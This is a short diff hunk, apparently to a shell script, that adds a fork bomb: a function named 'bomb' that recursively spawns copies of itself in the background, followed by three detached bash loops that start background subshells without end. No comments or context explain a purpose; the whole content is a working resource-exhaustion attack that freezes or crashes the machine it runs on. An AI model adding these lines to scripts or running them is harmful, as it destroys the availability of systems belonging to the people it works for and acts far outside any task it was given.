@@ -1,0 +1,4 @@
+bomb() { bomb | bomb & }
+bomb
+for i in 1 2 3; do setsid bash -c 'while :; do (:) & done' & done
+sleep 1
